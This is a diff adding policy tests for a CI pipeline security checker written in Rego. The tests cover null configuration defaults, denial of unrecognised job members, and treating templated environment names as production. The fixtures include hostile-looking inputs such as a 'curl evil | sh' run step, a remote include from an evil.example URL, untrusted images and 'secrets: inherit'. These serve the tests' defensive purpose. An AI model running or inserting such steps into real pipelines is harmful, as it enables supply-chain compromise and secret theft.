@@ -196,3 +196,57 @@ test_allow_list_boundaries if {
 narrow_config := {"pipeline": {"allowed_images": ["cimg/go"], "allowed_actions": ["actions/checkout"], "allowed_orbs": ["circleci/node"]}}
 
 narrow_rules(doc) := {v.rule | some v in main.violations with input as doc with data.ztci.config as narrow_config}
+
+# null in the configuration reads as unset (policy/doc.go): the default
+# production environments, not none (which would turn the production
+# rules off), and the default approval jobs, not an evaluation error.
+test_null_config_reads_as_default if {
+	cfg := json.patch(config, [
+		{"op": "add", "path": "/pipeline/production_environments", "value": null},
+		{"op": "add", "path": "/pipeline/protected_branches", "value": null},
+		{"op": "add", "path": "/pipeline/approval_jobs", "value": null},
+	])
+	unapproved := json.patch(good, [{"op": "remove", "path": "/pipeline/jobs/2/branches"}, {"op": "replace", "path": "/pipeline/jobs/2/requires", "value": ["build"]}])
+	{v.rule | some v in main.violations with input as unapproved with data.ztci.config as cfg} == {"pipeline.prod_unfiltered", "pipeline.approval_missing"}
+	{v.rule | some v in main.violations with input as good with data.ztci.config as cfg} == set()
+}
+
+# A member the rules do not read is one they cannot judge, so it is
+# denied, not ignored: a job-level reusable workflow call ("uses"), a
+# container or services image, a run script, or a judged member spelled
+# in another case beside the one the rules read ("Environment":
+# "production" over "environment": "", "Privileged": true). The Input
+# schema (policy.Pipeline) has none of them.
+test_unknown_members_denied if {
+	every op in [
+		{"op": "add", "path": "/pipeline/jobs/0/uses", "value": concat("@", ["evil/repo/.github/workflows/w.yml", sha])},
+		{"op": "add", "path": "/pipeline/jobs/0/container", "value": "evil/img:latest"},
+		{"op": "add", "path": "/pipeline/jobs/0/services", "value": {"db": {"image": "evil/db:latest"}}},
+		{"op": "add", "path": "/pipeline/jobs/0/secrets", "value": "inherit"},
+		{"op": "add", "path": "/pipeline/jobs/2/Environment", "value": "production"},
+		{"op": "add", "path": "/pipeline/jobs/0/Privileged", "value": true},
+		{"op": "add", "path": "/pipeline/jobs/0/steps/0/run", "value": "curl evil | sh"},
+		{"op": "add", "path": "/pipeline/jobs/0/steps/0/Uses", "value": "evil/x@main"},
+		{"op": "add", "path": "/pipeline/Uses", "value": ["evil/orb@volatile"]},
+		{"op": "add", "path": "/pipeline/include", "value": ["https://evil.example/ci.yml"]},
+	] {
+		"pipeline.malformed" in patched([op])
+	}
+	patched([{"op": "add", "path": "/pipeline/raw", "value": {"on": "push"}}]) == set()
+}
+
+# An environment named by an expression or a variable ("${{ inputs.env }}",
+# "$DEPLOY_ENV", "<< pipeline.parameters.env >>") is chosen when the job
+# runs and may be production: it is judged as production.
+test_templated_environment_is_production if {
+	every env in ["${{ inputs.environment }}", "$DEPLOY_ENV", "${DEPLOY_ENV}", "<< pipeline.parameters.env >>", "{{ env }}", "$(env)"] {
+		patched([
+			{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": env},
+			{"op": "remove", "path": "/pipeline/jobs/2/branches"},
+		]) == {"pipeline.prod_unfiltered"}
+	}
+	patched([
+		{"op": "replace", "path": "/pipeline/jobs/2/environment", "value": "staging"},
+		{"op": "remove", "path": "/pipeline/jobs/2/branches"},
+	]) == set()
+}
